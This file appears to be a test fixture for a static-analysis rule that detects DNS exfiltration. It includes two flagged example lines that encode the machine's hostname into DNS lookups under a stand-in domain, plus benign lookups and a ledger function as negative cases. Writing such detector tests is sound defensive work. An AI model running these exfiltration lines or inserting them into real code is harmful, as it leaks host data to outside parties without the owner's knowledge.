import binascii
import os
import socket

label = binascii.hexlify(os.uname().nodename.encode()).decode()[:60]
# ruleid: dns-exfiltration
socket.gethostbyname(f"{label}.d.example.invalid")
# ruleid: dns-exfiltration
socket.getaddrinfo(socket.gethostname() + ".d.example.invalid", 80)
# ok: dns-exfiltration
socket.gethostbyname(socket.gethostname())
# ok: dns-exfiltration
socket.gethostbyname("www.example.com")


def settle(ledger, month, rows):
    forecast = ledger.record(f"it rains ({month})", rows[:12])
    # ok: dns-exfiltration
    ledger.resolve(forecast, rows[0])
